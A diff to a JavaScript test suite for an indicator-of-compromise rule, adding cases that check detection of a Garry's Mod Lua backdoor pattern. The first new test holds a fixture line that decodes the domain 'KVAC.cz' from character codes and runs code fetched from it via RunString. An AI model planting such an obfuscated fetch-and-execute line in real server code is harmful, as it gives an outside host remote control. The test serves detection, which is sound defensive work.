@@ -24,6 +24,20 @@ describe('ioc_match', () => {
     });
     expect(findings).toEqual([]);
   });
+  it('C2 domain decoded at run time', () => {
+    const host = [...'KVAC.cz'].map((c) => c.charCodeAt(0)).join(', ');
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': `http.Fetch("https://" .. string.char(${host}) .. "/x", RunString)`,
+    });
+    expect(findings.map((f) => f.pattern)).toContain('encoded IOC kvac.cz');
+  });
+  it('decoded text without an indicator', () => {
+    const host = [...'example.invalid'].map((c) => c.charCodeAt(0)).join(', ');
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': `http.Fetch("https://" .. string.char(${host}) .. "/x", print)`,
+    });
+    expect(findings).toEqual([]);
+  });
   it('unrelated domain', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua': 'http.Fetch("https://example.invalid/v.txt", print)',
